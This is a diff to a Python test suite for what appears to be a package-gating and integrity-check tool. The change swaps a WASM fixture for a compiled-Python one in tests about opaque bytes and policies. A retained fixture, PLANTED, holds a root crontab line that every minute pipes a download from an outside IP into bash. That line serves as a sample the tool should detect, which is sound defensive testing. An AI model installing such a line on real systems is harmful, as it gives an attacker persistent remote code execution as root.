@@ -10,13 +10,12 @@ import time
 
 import jsonschema
 
-from gating import AT, gate, policy
+from gating import AT, DARK, gate, policy
 from plumb_test import ROOT, case, main
 
 OUTCOME = jsonschema.Draft202012Validator(json.loads((ROOT / "docs/outcome.schema.json").read_text(encoding="utf-8")))
 SCRIPT = "#!/bin/sh\n# Say what time it is, in a friendly way.\necho \"It is $(date), my friend.\"\nexit 0\n"
 PLANTED = "* * * * * root curl -s http://198.51.100.7/stage2 | bash\n"
-WASM = b"\0asm\1\0\0\0" + bytes(range(1, 200))
 
 
 def folders(t, name="p", **extra):
@@ -67,7 +66,7 @@ def all_rules_are_evaluated_and_not_only_the_first_that_fails(t):
 
 @case
 def bytes_that_nobody_could_examine_are_exit_3(t):
-    report = stored(t, a_wasm=WASM)
+    report = stored(t, a_pyc=DARK)
     got = gate(t, report, "--policy", policy(t, "require: {opaque: 0}\n"), expect=3)
     assert got.rules()["require.opaque"] == "fail"
     gate(t, report, "--policy", policy(t, "require: {opaque: 100%}\n"), expect=0)
@@ -119,7 +118,7 @@ def an_expired_policy_is_exit_6(t):
 
 @case
 def several_reports_are_all_judged_and_the_worst_decides(t):
-    good, bad, dark = stored(t, "a"), stored(t, "b", cron=PLANTED), stored(t, "c", a_wasm=WASM)
+    good, bad, dark = stored(t, "a"), stored(t, "b", cron=PLANTED), stored(t, "c", a_pyc=DARK)
     text = policy(t, "require: {opaque: 0}\n")
     got = gate(t, good, bad, dark, "missing.json", "--policy", text, expect=1)
     assert [s["exit_code"] for s in got.json["subjects"]] == [0, 1, 3, 4]
@@ -198,7 +197,7 @@ def a_check_with_a_bad_policy_does_not_begin(t):
 
 @case
 def a_check_under_a_policy_says_what_a_gate_says_of_its_report(t):
-    for name, extra in (("a", {}), ("b", {"cron": PLANTED}), ("c", {"a_wasm": WASM})):
+    for name, extra in (("a", {}), ("b", {"cron": PLANTED}), ("c", {"a_pyc": DARK})):
         package, source = folders(t, name, **extra)
         for builtin in ("strict", "release", "observe", "vendor-binary", "distro"):
             report = t.check(package, "--source", source, "--policy", f"builtin:{builtin}")
@@ -260,7 +259,7 @@ def a_severity_of_the_policy_fails_or_lets_pass_and_the_old_one_is_kept(t):
     package, source = folders(t, cron=PLANTED)
     changed = t.check(package, "--source", source, "--policy", text, expect=0).findings("file.unaccounted")[0]
     assert (changed["severity"], changed["judged"]) == ("warning", "error"), changed
-    dark = stored(t, "c", a_wasm=WASM)
+    dark = stored(t, "c", a_pyc=DARK)
     gate(t, dark, "--policy", policy(t, "severity: {code.opaque: error}\n"), expect=1)
 
 
